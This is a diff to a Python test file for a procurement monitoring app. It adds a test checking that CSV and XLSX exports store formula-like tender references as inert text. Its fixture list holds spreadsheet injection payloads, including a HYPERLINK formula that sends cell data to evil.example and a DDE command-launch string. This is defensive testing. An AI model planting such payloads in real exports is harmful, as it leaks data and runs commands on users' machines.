@@ -1,5 +1,6 @@
 """Pages of monitoring: who sees what, and what a procurer and a coordinator do."""
 
+import csv
 import io
 from decimal import Decimal
 
@@ -667,3 +668,43 @@ def test_a_line_with_errors_starts_no_report_and_a_good_one_does(
         },
     )
     assert PurchaseReport.objects.get().lines.count() == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-1+1",
+]
+
+
+def test_the_report_exports_write_formulas_in_tender_references_as_text(
+    client, procurer_a, report_a
+):
+    from openpyxl import load_workbook
+
+    for reference in FORMULAS:
+        PurchaseLineFactory(report=report_a, quantity=4, tender_reference=reference)
+    client.force_login(procurer_a)
+    kwargs = {"slug": SLUG, "year": 2025}
+    text = b"".join(
+        client.get(reverse("monitoring:export-csv", kwargs=kwargs)).streaming_content
+    ).decode("utf-8-sig")
+    references = [row[9] for row in csv.reader(io.StringIO(text))][1:]
+    assert sorted(r for r in references if r) == sorted("'" + f for f in FORMULAS)
+
+    content = client.get(reverse("monitoring:export-xlsx", kwargs=kwargs)).content
+    sheet = load_workbook(io.BytesIO(content)).active
+    rows = list(sheet.iter_rows(min_row=2))
+    cells = [row[9] for row in rows if row[9].value]
+    assert sorted(c.value for c in cells) == sorted(FORMULAS)
+    assert {c.data_type for c in cells} == {"s"}
+    # Numbers stay numbers.
+    assert {row[1].data_type for row in rows} == {"n"}
+    # And the CSV imports back to the same references, without the apostrophes.
+    from cfit.monitoring.importing import check_purchases
+
+    lines = check_purchases(io.BytesIO(text.encode()), keep_lines=True).lines
+    assert sorted(line.tender_reference for line in lines if line.tender_reference) == (
+        sorted(FORMULAS)
+    )
